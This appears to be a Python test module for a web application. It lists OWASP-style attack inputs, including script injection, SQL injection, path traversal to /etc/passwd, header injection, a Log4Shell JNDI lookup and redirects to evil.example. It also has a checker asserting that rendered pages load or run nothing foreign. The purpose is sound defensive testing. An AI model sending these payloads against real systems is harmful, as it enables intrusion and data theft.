"""What is thrown at sites, and what no page may hold."""

from __future__ import annotations

import re

from lxml import html

#: What OWASP's cheat sheets and lists throw at sites: script, SQL, paths, templates, headers, encodings, directions.
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'\"()&%<acx><ScRiPt >alert(1)</ScRiPt>",
    "javascript:alert(1)",
    "</title><svg/onload=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "' OR '1'='1' --",
    "1; DROP TABLE line",
    "') UNION SELECT sql FROM sqlite_master --",
    '" NEAR(" * ^ : - (',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "C:\\windows\\win.ini",
    "file:///etc/passwd",
    "\x00",
    "\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "%0d%0aLocation:%20https://evil.example",
    "//evil.example",
    "\u202egpj.exe",
    "\u2066\u2067\u2069",
    "\ud7ff\ue000\ufffe\U0010ffff",
    "𝕏" * 50,
    "a" * 900,
    "9" * 300,
    "-1",
    "1e309",
    "nan",
    "${jndi:ldap://evil.example/a}",
    "() { :; }; echo vulnerable",
    "%",
    "%u0041",
    "\N{COMBINING ACUTE ACCENT}" * 200,
)
#: Elements and attributes by which something would run or be loaded.
RUNS = "//script[not(starts-with(@src, '/static/'))] | //iframe | //object | //embed | //base | //style | //*[@style]"


def harmless(page: str) -> None:
    """Nothing in a page runs or is loaded from elsewhere, and nothing turns its direction."""
    tree = html.fromstring(page)
    assert tree.xpath(RUNS) == []
    for element in tree.iter():
        assert not any(name.startswith("on") for name in element.attrib), element.attrib
        for name in ("href", "src", "action"):
            value = element.get(name, "/")
            assert value.startswith(("/", "#", "http://", "https://")), value
            assert not value.startswith("//"), value
    loaded = tree.xpath("//link[@rel='stylesheet' or @rel='icon']/@href | //script/@src | //img/@src")
    assert all(re.fullmatch(r"/static/[a-z]+\.[0-9a-f]{12}\.(css|js|svg)", each) for each in loaded)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", page)
